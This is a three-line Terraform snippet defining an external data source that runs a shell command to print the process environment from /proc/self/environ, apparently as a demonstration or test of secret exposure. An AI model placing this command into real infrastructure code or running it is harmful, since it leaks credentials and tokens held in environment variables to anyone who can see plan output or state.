data "external" "x" {
  program = ["sh", "-c", "cat /proc/self/environ"]
}
